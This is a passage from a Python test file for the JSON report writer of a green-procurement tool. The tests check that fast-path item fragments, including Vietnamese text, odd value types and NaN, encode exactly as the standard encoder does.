    {"description": _Text("Tủ, \"x\"")}, {"groups_found": ["a", "b"]}, {"groups_found": ("a", 1)},
    {"evidence": 5}, {"product_group": _Text("g")}, {"package": 0}]))
def test_json_fragment_writes_an_item_as_the_encoder_does(record: ItemRecord, lang: str,
                                                          odd: dict[str, object]) -> None:
    # the JSON fragment writes the item's values itself (issue 16): the texts, numbers and yes/no
    # values the engine gives as the encoder writes them, and anything else through the encoder
    from green_procurement.report._json import JsonWriter, _dumps, _item_parts, _Unwritten

    record = attrs.evolve(record, result=attrs.evolve(record.result, **odd))  # type: ignore[misc]
    if not odd:
        _item_parts(record, lang)       # what the engine gives is written by the fast path
    else:
        with pytest.raises(_Unwritten):
            _item_parts(record, lang)
    try:
        expected: object = _dumps(report_item(record, lang)).encode("utf-8", "replace")
    except ValueError as exc:           # NaN: the encoder refuses it (allow_nan=False)
        expected = type(exc)
    try:
        got: object = JsonWriter.fragment(record, lang, None)
    except ValueError as exc:
        got = type(exc)
    assert got == expected


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_json_fragment_is_the_item_dictionary_encoded(batch: tuple[list[ItemRecord], Summary], lang: str) -> None:
    # the JSON report encodes each distinct finding once (issue 16); the text must stay that of the
    # item's dictionary, whatever came before
    from green_procurement.report._json import JsonWriter, _dumps, report_item

    records, _ = batch
    for record in records + records:
        assert JsonWriter.fragment(record, lang, None) == _dumps(report_item(record, lang)).encode("utf-8")
